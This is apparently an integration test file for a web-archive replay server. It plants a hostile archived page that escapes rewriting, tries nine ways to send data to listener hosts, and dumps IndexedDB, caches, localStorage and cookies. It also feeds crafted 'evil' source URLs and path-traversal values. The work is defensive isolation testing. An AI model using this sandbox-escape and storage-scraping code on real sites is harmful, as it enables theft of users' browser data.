// harness: not used because it tests the replay server alone (two of them: one per-archive-origin), with no ledger.
// Replay isolation (issue 29, deliver 1), in a real Chromium against the real bucket: a replayed
// page is hostile content. The hostile archive's page escapes wabac's rewriting (it opens itself
// raw, in wabac's id_ mode, and a data: frame), then tries fetch, WebSocket, EventSource, beacon,
// image, form post, frame, window.open and preconnect, each to its own listener that records every
// connection, and reads every IndexedDB database, cache and storage of its own window and of the
// tab's top. An archive holding a secret was opened first in the same browser profile, and is
// still open in another tab. And a link naming another host as replay's source is refused before
// anything is fetched.
import { randomUUID } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createServer, type Server, type Socket } from 'node:net';
import { PutObjectCommand } from '@aws-sdk/client-s3';
import type { FastifyInstance } from 'fastify';
import { chromium, type Browser, type BrowserContext, type Frame, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createUrlSigner } from '../../src/api/presign.ts';
import { replayLink } from '../../src/api/picker.ts';
import { archiveOrigin } from '../../src/domain/replay-origin.ts';
import { buildReplayServer } from '../../src/replay/server.ts';
import { createS3 } from '../../src/s3/client.ts';
import { BROWSER_LAUNCH, launchTestBrowser, SHOTS } from '../support/browser.ts';
import { testConfig } from '../support/config.ts';
import { makeWacz } from '../support/ledger.ts';

const LISTENER_HOST = '127.0.0.77';
const WAYS = ['fetch', 'websocket', 'eventsource', 'beacon', 'image', 'form', 'frame', 'open', 'preconnect'] as const;
/** the listeners a browser's network predictor connects to (a bare connect, no byte sent): frames' */
const PREDICTED_LABELS = new Set(['frame', 'data-frame frame']);

const config = testConfig({ CAPTURE_LEDGER_FGA_STORE_ID: 'unused', CAPTURE_LEDGER_FGA_MODEL_ID: 'unused' });
const s3 = createS3(config.s3);
const sign = createUrlSigner(config.s3);
const secret = `SECRET-${randomUUID()}`;
const prefix = `replay-isolation/${randomUUID()}`;
const secretKey = `${prefix}/secret.wacz`;
const hostileKey = `${prefix}/hostile.wacz`;

let replay: FastifyInstance;
let replayUrl: string;
/** the same replay with an origin per archive (CAPTURE_LEDGER_REPLAY_ARCHIVE_DOMAIN) */
let perArchive: FastifyInstance;
let perArchiveUrl: string;
const ARCHIVE_DOMAIN = 'replay.localhost';
let browser: Browser;
/** the listeners; the one external-source test names as replay's source */
const listeners: Server[] = [];
let listenerOrigin: string;
/** every connection a listener accepted, by the way out it listens for, and the first line sent on it */
const connections: string[] = [];

/**
 * Runs in the browser, in the raw hostile page and again in its data: frame (neither of which wabac
 * rewrites): every way out it knows, each to its own listener in `to`, each awaited until it settles.
 */
function reachOut(to: Record<string, string>, tag: string): Promise<string[]> {
  const notes: string[] = [];
  const settle = (name: string, start: () => Promise<string>): Promise<void> =>
    start().then(
      (how) => void notes.push(`${tag}${name}: ${how}`),
      (err: unknown) => void notes.push(`${tag}${name}: threw ${err instanceof Error ? err.name : String(err)}`),
    );
  const events = (target: EventTarget, ok: string, bad: string[]) =>
    new Promise<string>((resolve) => {
      target.addEventListener(ok, () => resolve(ok));
      for (const b of bad) target.addEventListener(b, () => resolve(b));
    });
  return Promise.all([
    settle('fetch', () => fetch(`${to.fetch}/fetch`, { mode: 'no-cors' }).then(() => 'answered')),
    settle('websocket', async () => events(new WebSocket(`${to.websocket?.replace(/^http/, 'ws')}/ws`), 'open', ['error', 'close'])),
    settle('eventsource', async () => {
      const es = new EventSource(`${to.eventsource}/es`);
      const how = await events(es, 'open', ['error']);
      es.close();
      return how;
    }),
    settle('beacon', async () => String(navigator.sendBeacon(`${to.beacon}/beacon`, 'x'))),
    settle('image', async () => {
      const img = new Image();
      img.src = `${to.image}/img`;
      return events(img, 'load', ['error']);
    }),
    settle('form', async () => {
      const sink = document.createElement('iframe');
      sink.name = `sink${tag}`;
      const into = document.body ?? document.documentElement;
      into.append(sink);
      const form = document.createElement('form');
      form.method = 'post';
      form.action = `${to.form}/form`;
      form.target = sink.name;
      into.append(form);
      form.submit();
      return 'submitted';
    }),
    settle('open', async () => (window.open(`${to.open}/open`) === null ? 'null' : 'a window')),
    settle('frame', async () => {
      const f = document.createElement('iframe');
      f.src = `${to.frame}/frame`;
      (document.body ?? document.documentElement).append(f);
      return 'added';
    }),
    settle('preconnect', async () => {
      const l = document.createElement('link');
      l.rel = 'preconnect';
      l.href = `${to.preconnect}/`;
      document.head.append(l);
      return 'added';
    }),
  ]).then(() => notes);
}

/**
 * Runs in the browser: the text of every IndexedDB database, cache and storage `realm` (the page
 * itself, or ReplayWeb.page's window above it, which wabac's rewriting does not wrap) can open.
 */
async function readStorage(realm: Window, tag: string): Promise<string[]> {
  const read: string[] = [];
  const bytes = (x: unknown): x is ArrayBuffer | ArrayBufferView => ArrayBuffer.isView(x) || Object.prototype.toString.call(x) === '[object ArrayBuffer]';
  const decode = (x: ArrayBuffer | ArrayBufferView) =>
    new TextDecoder('latin1').decode(ArrayBuffer.isView(x) ? new Uint8Array(x.buffer, x.byteOffset, x.byteLength) : new Uint8Array(x));
  const text = (v: unknown) => JSON.stringify(v, (_k, x: unknown) => (bytes(x) ? decode(x) : x));
  const req = <T>(r: IDBRequest<T>) =>
    new Promise<T>((resolve, reject) => {
      r.onsuccess = () => resolve(r.result);
      r.onerror = () => reject(r.error);
    });
  try {
    const list = await realm.indexedDB.databases();
    for (const info of list) {
      if (info.name === undefined) continue;
      read.push(`${tag}db ${info.name}`);
      const db = await req(realm.indexedDB.open(info.name));
      for (const store of Array.from(db.objectStoreNames))
        read.push(`${tag}store ${info.name}/${store} ${text(await req(db.transaction(store).objectStore(store).getAll()))}`);
      db.close();
    }
  } catch (err) {
    read.push(`${tag}indexedDB ${String(err)}`);
  }
  try {
    for (const name of await realm.caches.keys()) {
      const cache = await realm.caches.open(name);
      for (const r of await cache.keys()) read.push(`${tag}cache ${name} ${r.url} ${await (await cache.match(r))?.text()}`);
    }
  } catch (err) {
    read.push(`${tag}caches ${String(err)}`);
  }
  try {
    read.push(`${tag}local ${text({ ...realm.localStorage })}`, `${tag}session ${text({ ...realm.sessionStorage })}`, `${tag}cookie ${realm.document.cookie}`);
  } catch (err) {
    read.push(`${tag}storage ${String(err)}`);
  }
  return read;
}

/**
 * The hostile page. Replayed through wabac's rewriting (wbinfo is set), it opens itself raw, in
 * wabac's id_ mode, where nothing is rewritten; raw, it reaches out to the listeners from itself and
 * from a data: frame, reads the storage of its own window and of the tab's top, and writes it all
 * into #loot.
 */
function hostileHtml(fromPage: Record<string, string>, fromFrame: Record<string, string>): string {
  const inFrame = `<script>(${reachOut.toString()})(${JSON.stringify(fromFrame)}, 'data-frame ').then((notes) => parent.postMessage(notes, '*'))</script>`;
  const main = `
(async () => {
  if (typeof wbinfo === 'object') {
    document.getElementById('loot').textContent = 'rewritten';
    const raw = document.createElement('iframe');
    raw.src = wbinfo.prefix + wbinfo.timestamp + 'id_/' + wbinfo.url;
    document.body.append(raw);
    return;
  }
  const reachOut = ${reachOut.toString()};
  const readStorage = ${readStorage.toString()};
  const fromFrame = new Promise((resolve) => {
    addEventListener('message', (e) => { if (Array.isArray(e.data)) resolve(e.data); });
    const f = document.createElement('iframe');
    f.src = 'data:text/html;base64,' + ${JSON.stringify(Buffer.from(inFrame).toString('base64'))};
    document.body.append(f);
  });
  const notes = [...(await reachOut(${JSON.stringify(fromPage)}, '')), ...(await fromFrame)];
  const read = [...(await readStorage(window, '')), ...(await readStorage(window.top, 'top '))];
  document.getElementById('loot').textContent = JSON.stringify({ notes, read });
  document.body.dataset.done = 'yes';
})();`;
  return `<!doctype html><html><head><title>Hostile page</title></head><body><h1>Hostile page</h1><pre id="loot">running</pre><script>${main}</script></body></html>`;
}

/** The replay URL the picker would open for `key`: a signed source, built by the picker's own code. */
async function pickerLink(key: string, base = replayUrl): Promise<string> {
  return replayLink(base, key, await sign(config.s3.bucket, key, 300));
}

/** Opens `key` in replay (at `base`) in a new tab of `context`, opens its one page, and returns that page's frame. */
async function openArchive(context: BrowserContext, key: string, title: string, pageUrl: string, base = replayUrl): Promise<{ tab: Page; frame: Frame }> {
  const tab = await context.newPage();
  const res = await tab.goto(await pickerLink(key, base));
  expect(res?.status()).toBe(200);
  const entry = tab.locator(`keyword-mark[title="${title}"]`).first();
  await entry.waitFor({ state: 'visible', timeout: 60_000 });
  await entry.click();
  return { tab, frame: await frameAt(tab, `mp_/${pageUrl}`) };
}

/** The frame of `tab` whose URL contains `part`, once it has navigated there. */
async function frameAt(tab: Page, part: string): Promise<Frame> {
  const there = tab.frames().find((f) => f.url().includes(part));
  return there ?? tab.waitForEvent('framenavigated', { predicate: (f) => f.url().includes(part), timeout: 60_000 });
}

/** A listener on LISTENER_HOST that records, under `label`, every connection it accepts and the first line sent on it. */
async function listen(label: string): Promise<{ server: Server; origin: string }> {
  const server = createServer((sock: Socket) => {
    connections.push(label);
    sock.once('data', (d) => connections.push(`${label}: ${d.toString('latin1').split('\r\n')[0]}`));
    sock.on('error', () => {});
    sock.end();
  });
  await new Promise<void>((r) => server.listen(0, LISTENER_HOST, r));
  return { server, origin: `http://${LISTENER_HOST}:${(server.address() as { port: number }).port}` };
}

/** One listener per way out and per place it is tried from, so a connection says which it was. */
async function listenForEach(tag: string): Promise<Record<string, string>> {
  const origins: Record<string, string> = {};
  for (const way of WAYS) {
    const { server, origin } = await listen(`${tag}${way}`);
    listeners.push(server);
    origins[way] = origin;
  }
  return origins;
}

beforeAll(async () => {
  const fromPage = await listenForEach('');
  const fromFrame = await listenForEach('data-frame ');
  const evil = await listen('source');
  listeners.push(evil.server);
  listenerOrigin = evil.origin;
  const secretHtml = `<!doctype html><html><head><title>${secret}</title></head><body><h1>${secret}</h1><p>${secret} is what the hostile page must not read</p></body></html>`;
  for (const [key, body] of [
    [secretKey, await makeWacz('https://secret.test/', secret, new Date(), secretHtml)],
    [hostileKey, await makeWacz('https://hostile.test/', 'Hostile page', new Date(), hostileHtml(fromPage, fromFrame))],
  ] as const) {
    await s3.send(new PutObjectCommand({ Bucket: config.s3.bucket, Key: key, Body: body, ContentType: 'application/wacz' }));
  }
  replay = await buildReplayServer({ endpoint: config.s3.endpoint, bucket: config.s3.bucket });
  perArchive = await buildReplayServer({ endpoint: config.s3.endpoint, bucket: config.s3.bucket, archiveDomain: ARCHIVE_DOMAIN });
  perArchiveUrl = await perArchive.listen({ host: '127.0.0.1', port: 0 });
  replayUrl = await replay.listen({ host: '127.0.0.1', port: 0 });
  browser = await launchTestBrowser();
});

afterAll(async () => {
  await browser?.close();
  await replay?.close();
  await perArchive?.close();
  await Promise.all(listeners.map((l) => new Promise<void>((r) => l.close(() => r()))));
  s3.destroy();
});

/** What a browser profile's hostile run yielded: what its page noted and read, and how many tabs opened. */
async function hostileRun(context: BrowserContext): Promise<{ loot: { notes: string[]; read: string[] }; tabs: number }> {
  const tabs: string[] = [];
  context.on('page', (p) => tabs.push(p.url()));
  const first = await openArchive(context, secretKey, secret, 'https://secret.test/');
  await first.frame.locator('h1', { hasText: secret }).waitFor({ timeout: 60_000 });
  // the secret tab stays open while the hostile archive is opened in a second one
  const hostile = await openArchive(context, hostileKey, 'Hostile page', 'https://hostile.test/');
  const raw = await frameAt(hostile.tab, 'id_/https://hostile.test/');
  await raw.locator('body[data-done="yes"]').waitFor({ state: 'attached', timeout: 60_000 });
  const loot = JSON.parse((await raw.locator('#loot').textContent()) ?? '') as { notes: string[]; read: string[] };
  await hostile.tab.screenshot({ path: `${SHOTS}replay-hostile.png` });
  return { loot, tabs: tabs.length };
}

function expectNothingOfTheSecret(loot: { notes: string[]; read: string[] }): void {
  // every way out was tried, from the raw page and from its data: frame, and each settled
  for (const tag of ['', 'data-frame ']) {
    for (const way of WAYS) {
      expect(
        loot.notes.some((n) => n.startsWith(`${tag}${way}: `)),
        `${tag}${way}`,
      ).toBe(true);
    }
  }
  expect(loot.notes).toContain('open: null');
  expect(loot.notes).toContain('data-frame open: null');
  // the page could read storage: its own archive's records are there, from its window and the top's
  expect(loot.read.some((r) => r.startsWith('store ') && r.includes('Hostile page'))).toBe(true);
  expect(loot.read.some((r) => r.startsWith('top store ') && r.includes('Hostile page'))).toBe(true);
  // ...and nothing of the other archive's
  const leaked = [...loot.notes, ...loot.read].filter((r) => r.includes(secret) || r.includes('secret.test')).map((r) => r.slice(0, 300));
  expect(leaked).toEqual([]);
}

describe('replay exfiltration', { timeout: 240_000 }, () => {
  it('a hostile page opened after an archive with a secret reaches no other host and reads nothing of the secret', async () => {
    connections.length = 0;
    const context = await browser.newContext();
    try {
      const { loot, tabs } = await hostileRun(context);
      expectNothingOfTheSecret(loot);
      // No request reached a listener. The one connection a browser with default settings opens
      // is its network predictor's, to a frame's host as the frame's navigation starts, before
      // frame-src refuses it: no byte is sent on it (the next test turns the predictor off, and
      // then nothing connects). Forms open none: the sandbox submits no form at all.
      expect(connections.filter((c) => !PREDICTED_LABELS.has(c))).toEqual([]);
      // no popup: the two tabs opened here are all there are
      expect(tabs).toBe(2);
    } finally {
      await context.close();
    }
  });

  it("with the browser's network prediction off (its 'preload pages' setting), nothing connects at all", async () => {
    connections.length = 0;
    const profile = mkdtempSync(join(tmpdir(), 'replay-isolation-'));
    mkdirSync(join(profile, 'Default'));
    writeFileSync(join(profile, 'Default', 'Preferences'), JSON.stringify({ net: { network_prediction_options: 2 } }));
    const context = await chromium.launchPersistentContext(profile, BROWSER_LAUNCH);
    try {
      const { loot, tabs } = await hostileRun(context);
      expectNothingOfTheSecret(loot);
      expect(connections).toEqual([]);
      expect(tabs).toBe(2);
    } finally {
      await context.close();
      rmSync(profile, { recursive: true, force: true });
    }
  });
});

/** What the hostile page, left open, reads of every storage of its window and its tab's top now. */
async function readsNow(raw: Frame): Promise<string[]> {
  return raw.evaluate(async (src: string) => {
    const read = (0, eval)(`(${src})`) as (realm: Window, tag: string) => Promise<string[]>;
    return [...(await read(window, '')), ...(await read(window.top!, 'top '))];
  }, readStorage.toString());
}

/**
 * The hostile archive is opened first and left open; the archive with the secret is opened after
 * it in another tab; then the hostile page reads every storage it can reach.
 */
async function hostileLeftOpen(base: string): Promise<{ read: string[]; origins: string[] }> {
  const context = await browser.newContext();
  try {
    const hostile = await openArchive(context, hostileKey, 'Hostile page', 'https://hostile.test/', base);
    const raw = await frameAt(hostile.tab, 'id_/https://hostile.test/');
    await raw.locator('body[data-done="yes"]').waitFor({ state: 'attached', timeout: 60_000 });
    const later = await openArchive(context, secretKey, secret, 'https://secret.test/', base);
    await later.frame.locator('h1', { hasText: secret }).waitFor({ timeout: 60_000 });
    // the secret archive's page records are stored by now: its page list shows its title
    return { read: await readsNow(raw), origins: [new URL(hostile.tab.url()).origin, new URL(later.tab.url()).origin] };
  } finally {
    await context.close();
  }
}

describe('an origin per archive', { timeout: 240_000 }, () => {
  it('a hostile page left open reads nothing of an archive opened after it, each archive on its own origin', async () => {
    const { read, origins } = await hostileLeftOpen(perArchiveUrl);
    const port = new URL(perArchiveUrl).port;
    expect(origins).toEqual([
      archiveOrigin({ protocol: 'http:', port }, ARCHIVE_DOMAIN, hostileKey),
      archiveOrigin({ protocol: 'http:', port }, ARCHIVE_DOMAIN, secretKey),
    ]);
    // it still reads its own archive's records, so the reading works...
    expect(read.some((r) => r.startsWith('store ') && r.includes('Hostile page'))).toBe(true);
    // ...and finds nothing of the other
    expect(read.filter((r) => r.includes(secret) || r.includes('secret.test')).map((r) => r.slice(0, 300))).toEqual([]);
  });

  it('the control: on one shared origin the same page does read the archive opened after it', async () => {
    const { read, origins } = await hostileLeftOpen(replayUrl);
    expect(new Set(origins).size).toBe(1);
    expect(read.some((r) => r.includes(secret))).toBe(true);
  });

  it("replay's own address sends a source to its archive's origin; an archive origin takes no other archive and unknown names are 421", async () => {
    const port = new URL(perArchiveUrl).port;
    const link = new URL(await pickerLink(secretKey, perArchiveUrl));
    const own = archiveOrigin({ protocol: 'http:', port }, ARCHIVE_DOMAIN, secretKey);
    const path = `${link.pathname}${link.search}`;
    const sent = await perArchive.inject({ url: path, headers: { host: link.host } });
    expect(sent.statusCode).toBe(302);
    expect(sent.headers.location).toBe(`${own}${path}`);
    // the hostile archive's origin, asked for the secret one, sends it to the secret's own
    const elsewhere = await perArchive.inject({
      url: path,
      headers: { host: new URL(archiveOrigin({ protocol: 'http:', port }, ARCHIVE_DOMAIN, hostileKey)).host },
    });
    expect(elsewhere.statusCode).toBe(302);
    expect(elsewhere.headers.location).toBe(`${own}${path}`);
    const there = await perArchive.inject({ url: path, headers: { host: new URL(own).host } });
    expect(there.statusCode).toBe(200);
    expect(there.headers['clear-site-data']).toBe('"cookies", "storage"');
    for (const host of [`evil.${ARCHIVE_DOMAIN}:${port}`, `${ARCHIVE_DOMAIN}:${port}`, `${new URL(own).hostname}:1`]) {
      const refused = await perArchive.inject({ url: path, headers: { host } });
      expect(refused.statusCode, host).toBe(421);
    }
  });
});

describe("the app's own forms", { timeout: 120_000 }, () => {
  it('Enter in the replay bar still navigates inside the archive, though the sandbox submits no form', async () => {
    const context = await browser.newContext();
    try {
      const { tab } = await openArchive(context, secretKey, secret, 'https://secret.test/');
      const bar = tab.locator('form.replay-bar-form input').first();
      await bar.fill('https://secret.test/elsewhere');
      await bar.press('Enter');
      const moved = await frameAt(tab, 'mp_/https://secret.test/elsewhere');
      expect(moved.url()).toContain('/mp_/https://secret.test/elsewhere');
    } finally {
      await context.close();
    }
  });
});

describe('external source', { timeout: 120_000 }, () => {
  /** Opens `query` on replay in `tab` and returns the status, the body and how many scripts the page has. */
  async function openQuery(tab: Page, query: string): Promise<{ status: number | undefined; body: string; scripts: number }> {
    const res = await tab.goto(`${replayUrl}/?${query}`);
    return { status: res?.status(), body: (await res?.text()) ?? '', scripts: await tab.evaluate(() => document.scripts.length) };
  }

  it("a source naming another host, or another of ReplayWeb.page's parameters, is refused and nothing is fetched", async () => {
    const evil = `${listenerOrigin}/evil.wacz`;
    const context = await browser.newContext();
    try {
      const tab = await context.newPage();
      const refused = await openQuery(tab, `source=${encodeURIComponent(evil)}`);
      expect(refused.status).toBe(400);
      expect(JSON.parse(refused.body)).toEqual({ error: expect.stringContaining('replay opens only its own /wacz/ sources') });
      expect(refused.scripts).toBe(0);
      // the same once replay's service worker is installed: a link opened in a browser that replayed before
      await openArchive(context, secretKey, secret, 'https://secret.test/');
      for (const query of [
        `source=${encodeURIComponent(evil)}`,
        `source=${encodeURIComponent(`//${LISTENER_HOST}:${new URL(listenerOrigin).port}/wacz/evil.wacz`)}`,
        `source=${encodeURIComponent('/wacz/../evil.wacz')}`,
        `source=${encodeURIComponent(`/wacz/${secretKey}`)}&config=${encodeURIComponent(JSON.stringify({ loadUrl: evil }))}`,
        `state=${encodeURIComponent(JSON.stringify({ ids: ['x'], userId: 'u', action: 'open' }))}`,
      ]) {
        const again = await openQuery(tab, query);
        expect(again.status, query).toBe(400);
        expect(again.scripts, query).toBe(0);
      }
      expect(connections.filter((c) => c.startsWith('source'))).toEqual([]);
    } finally {
      await context.close();
    }
  });
});
